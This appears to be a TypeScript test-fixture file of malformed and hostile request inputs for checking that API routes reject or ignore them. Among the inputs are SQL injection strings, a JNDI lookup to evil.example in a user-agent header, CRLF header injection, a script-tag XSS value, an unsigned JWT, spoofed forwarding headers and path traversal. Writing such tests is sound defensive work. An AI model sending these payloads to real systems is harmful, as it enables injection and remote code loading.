// Faults that do not depend on the route: malformed bodies, media types, idempotency keys, queries and paths.

/** A malformed body and the answer that a route must give to it. */
export interface BodyFault {
  readonly description: string;
  readonly payload: string | Buffer;
  readonly type?: string;
  readonly expected: string;
}

const MALFORMED = '400 VALIDATION_FAILED';
const BROKEN_UTF8 = [
  ['a stray byte', [0xff]],
  ['a continuation byte without a start byte', [0x80]],
  ['an overlong encoding of a slash', [0xc0, 0xaf]],
  ['a surrogate', [0xed, 0xa0, 0x80]],
  ['an incomplete character', [0xe2, 0x82]],
  ['a code point beyond Unicode', [0xf4, 0x90, 0x80, 0x80]],
] as const;

/** Malformed bodies that every route with a body must refuse. `valid` is a body that the route accepts. */
export function bodyFaults(valid: string, { limitBytes, isOptional }: { limitBytes: number; isOptional: boolean }): BodyFault[] {
  const texts: Record<string, string> = {
    'without its last character': valid.slice(0, -1),
    'the valid body twice': `${valid}${valid}`,
    'a comma behind it': `${valid},`,
    'the valid body in a list': `[${valid}]`,
    'the valid body as a JSON string': JSON.stringify(valid),
    'with single quotes': valid.replaceAll('"', "'") === '{}' ? "{'a':1}" : valid.replaceAll('"', "'"),
    'with a comment': `/**/${valid}`,
    'with a byte order mark': `\ufeff${valid}`,
    null: 'null',
    true: 'true',
    number: '3',
    text: '"x"',
    list: '[]',
    NaN: 'NaN',
    undefined: 'undefined',
    'a lone brace': '{',
    'white space': ' \n',
    'a NUL': '\0',
    'with a NUL behind it': `${valid}\0`,
    'a member without a value': '{"a"}',
    'a form body': 'a=1&b=2',
    '10,000 levels of lists': '['.repeat(limitBytes / 2 > 10_000 ? 10_000 : limitBytes / 2 - 1),
    '5,000 closed levels': `${'['.repeat(5000)}${']'.repeat(5000)}`,
    '3,000 levels of objects': `${'{"a":'.repeat(2700)}1${'}'.repeat(2700)}`,
    'a member 3,000 levels deep': `{"a":${'['.repeat(3000)}${']'.repeat(3000)}}`,
    'a number of 10,000 digits': `{"a":${'9'.repeat(10_000)}}`,
    '1,000 members': `{${Array.from({ length: 1000 }, (_, index) => `"m${index}":1`).join(',')}}`,
    ...(isOptional ? {} : { nothing: '', 'an empty object': '{}' }),
  };
  const oversized = `{"a":"${'x'.repeat(limitBytes + 1 - 8)}"}`;
  return [
    ...Object.entries(texts).map(([description, payload]) => ({ description, payload, expected: MALFORMED })),
    ...BROKEN_UTF8.map(([description, bytes]) => ({
      description: `${description} in UTF-8`,
      payload: jsonWithBytes(bytes),
      expected: MALFORMED,
    })),
    { description: 'one byte too many', payload: oversized, expected: '413 PAYLOAD_TOO_LARGE' },
    ...wrongTypes.map((type) => ({
      description: `sent as ${type}`,
      type,
      payload: valid,
      expected: '415 UNSUPPORTED_MEDIA_TYPE',
    })),
  ];
}

function jsonWithBytes(bytes: readonly number[]): Buffer {
  return Buffer.concat([Buffer.from('{"a":"'), Buffer.from(bytes), Buffer.from('"}')]);
}

const wrongTypes = [
  'text/plain',
  'text/json',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/jsonx',
  'application/problem+json',
  'application/json garbage',
  'application/json\ta',
  'application/json, text/plain',
  'application/json/x',
  'application',
  '/',
  'nonsense',
  '',
];

/** Bodies that a route which expects no body must refuse, whatever the content type. */
export const unexpectedBodies = ['{"a":1}', '[]', 'null', '{', 'a=1', '"{}"', '0', '\0'];

/** Missing and malformed idempotency keys. */
export const keyFaults: readonly (readonly [description: string, key: string | string[] | undefined, expected: string])[] = [
  ['missing', undefined, '400 IDEMPOTENCY_KEY_REQUIRED'],
  ['empty', '', '400 IDEMPOTENCY_KEY_REQUIRED'],
  ...(
    [
      ['with hyphens', '3f2b8c4e-9a1d-4c6b-8e2f-0a1b2c3d4e5f'],
      ['in capitals', '3F2B8C4E9A1D4C6B8E2F0A1B2C3D4E5F'],
      ['one capital', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5F'],
      ['one digit short', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5'],
      ['one digit long', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f0'],
      ['of version 1', '3f2b8c4e9a1d1c6b8e2f0a1b2c3d4e5f'],
      ['of version 7', '3f2b8c4e9a1d7c6b8e2f0a1b2c3d4e5f'],
      ['of another variant', '3f2b8c4e9a1d4c6bce2f0a1b2c3d4e5f'],
      ['in quotes', '"3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f"'],
      ['in braces', '{3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f}'],
      ['with a letter beyond f', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5g'],
      ['of zeros only', '00000000000000000000000000000000'],
      ['with SQL', "'; drop table outbox; --"],
      ['a wildcard', '*'],
      ['4,000 characters', 'a'.repeat(4000)],
      ['twice', ['3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f']],
    ] as const
  ).map(([description, key]) => [description, key as string | string[], '400 IDEMPOTENCY_KEY_INVALID'] as const),
];

const uuidCursor = Buffer.from('0190a000-0000-7000-8000-00000000000a').toString('base64url');

/** Invalid limits and cursors of a list. */
export const queryFaults = [
  ...['0', '-1', '101', '1e1', '1.5', '03', '+5', '%205', 'x', '', '1,2', '9'.repeat(40), '%00', 'NaN', '0x10', '%D9%A5'].map(
    (limit) => `limit=${limit}`,
  ),
  'limit=1&limit=2',
  ...[
    'x',
    '',
    '0',
    'null',
    '%00',
    '../..',
    `${uuidCursor}=`,
    `${uuidCursor}A`,
    uuidCursor.slice(1),
    uuidCursor.toUpperCase(),
  ].map((cursor) => `cursor=${cursor}`),
  `cursor=${Buffer.from("' or 1=1--").toString('base64url')}`,
  `cursor=${Buffer.from('{"id":1}').toString('base64url')}`,
  `cursor=${uuidCursor}&cursor=${uuidCursor}`,
  `cursor=${'A'.repeat(5000)}`,
];

/** Unknown query parameters, which every route ignores. */
export const ignoredQueries = [
  'surprise=1',
  'limit_=0',
  '__proto__=1',
  'constructor[prototype]=1',
  '&&&',
  '=',
  'a=%F0%9F%8F%9F',
  'toString',
  '%',
];

const uuid = '0190a000-0000-7000-8000-00000000000a';
/** Path segments that are not a UUID. */
export const idFaults = [
  ...[
    '7',
    '-1',
    '1e3',
    'null',
    'undefined',
    '*',
    '%2A',
    '%27',
    '%27%20or%201%3D1--',
    'me',
    'constructor',
    '__proto__',
    '%7B%7D',
    '[object%20Object]',
  ],
  ...[
    uuid.slice(1),
    `${uuid}0`,
    `%7B${uuid}%7D`,
    `urn:uuid:${uuid}`,
    uuid.replaceAll('-', ''),
    uuid.replaceAll('-', '_'),
    uuid.replace('a', 'g'),
  ],
  ...[
    `%20${uuid}`,
    `${uuid}%20`,
    `${uuid}%0A`,
    `${uuid};x`,
    `${uuid}%3Bx`,
    `${uuid}.json`,
    `${uuid},${uuid}`,
    `..%2F${uuid}`,
    `%EF%BB%BF${uuid}`,
  ],
  ...['%2e%2e', '%2E', '..', '.', '%252e%252e', '..%5c', '%c3%a9', '%F0%9F%8F%9F'],
];

/** Path segments that are invalid for every path parameter: invalid UTF-8 or escapes, and segments that are too long. */
export const segmentFaults: readonly (readonly [segment: string, expected: string])[] = [
  ...['%00', 'a%00b', '%', '%f', '%ff', '%c0%af', '%ed%a0%80', '%E2%82', '%u0041'].map(
    (segment) => [segment, MALFORMED] as const,
  ),
  ['x'.repeat(200), '414 URI_TOO_LONG'],
  ['%41'.repeat(200), '414 URI_TOO_LONG'],
];

/** Paths that resemble the path of a route but are not equivalent to it: they lead to no route or contain an invalid parameter. */
export const otherPaths: readonly (readonly [description: string, rewrite: (url: string) => string])[] = [
  ['two slashes in front', (url) => `/${url}`],
  ['three slashes in front', (url) => `//${url}`],
  ['a dot in front', (url) => `/.${url}`],
  ['a folder and ..', (url) => `/x/..${url}`],
  ['a folder and .. escaped', (url) => `/x/%2e%2e${url}`],
  ['a slash at the end', (url) => `${url}/`],
  ['two slashes at the end', (url) => `${url}//`],
  ['a dot at the end', (url) => `${url}/.`],
  ['.. at the end', (url) => `${url}/..`],
  ['.. at the end, escaped', (url) => `${url}/%2e%2e`],
  ['.. with a semicolon at the end', (url) => `${url}/..;/`],
  ['a backslash at the end', (url) => `${url}\\`],
  ['a semicolon', (url) => `${url};x=1`],
  ['a NUL', (url) => `${url}%00`],
  ['a line break', (url) => `${url}%0d%0aX-Evil:%201`],
  ['a tab', (url) => `${url}%09`],
  ['a space', (url) => `${url}%20`],
  ['an incomplete escape', (url) => `${url}%`],
  ['an invalid UTF-8 byte', (url) => `${url}%ff`],
  ['a file extension', (url) => `${url}.json`],
  ['one more segment', (url) => `${url}/x`],
  ['200 more characters', (url) => `${url}/${'x'.repeat(200)}`],
  ['the first segment in capitals', (url) => url.replace(/^\/\w+/, (part) => part.toUpperCase())],
  ['one capital', (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/${letter.toUpperCase()}`)],
  ['two slashes within', (url) => url.replace(/(?<=\w)\//, '//')],
  ['backslashes', (url) => url.replaceAll('/', '\\')],
  ['escaped slashes', (url) => `/${url.slice(1).replaceAll('/', '%2f')}`],
  [
    'a letter escaped twice',
    (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/%25${letter.charCodeAt(0).toString(16)}`),
  ],
  ['an escaped question mark', (url) => `${url}%3fx`],
];

/** Other spellings of a path that are equivalent to it. */
export const equivalentPaths: readonly (readonly [description: string, rewrite: (url: string) => string])[] = [
  ['a letter escaped', (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`)],
  [
    'the first word escaped',
    (url) =>
      url.replace(
        /^\/(\w+)/,
        (_all, word: string) => `/${[...word].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}`,
      ),
  ],
  ['with scheme and host', (url) => `http://127.0.0.1${url}`],
  ['with a query', (url) => `${url}?x=1`],
  ['with a fragment', (url) => `${url}#x`],
];

/** Headers that our services ignore although other servers obey them, and malformed values of headers that we only log or compare. */
export const ignoredHeaders: Readonly<Record<string, string>> = {
  accept: 'nonsense',
  'accept-encoding': 'x'.repeat(2000),
  authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.',
  cookie: 'session=1',
  forwarded: 'for=evil.example',
  host: 'evil.example',
  'if-match': '"x"',
  'if-modified-since': 'yesterday',
  'if-none-match': `"${'x'.repeat(3000)}"`,
  origin: 'https://evil.example',
  'purchase-session': 'st_x',
  range: 'bytes=0-1',
  referer: 'https://evil.example/',
  'user-agent': '${jndi:ldap://evil.example/a}',
  'x-forwarded-for': "127.0.0.1, evil.example, ' or 1=1--",
  'x-forwarded-host': 'evil.example',
  'x-forwarded-prefix': '/evil.example',
  'x-forwarded-proto': 'evil',
  'x-http-method-override': 'DELETE',
  'x-original-url': '/api/v1/ops/matches',
  'x-purchase-session': 'st_x',
  'x-request-id': '<script>alert(1)</script>',
};
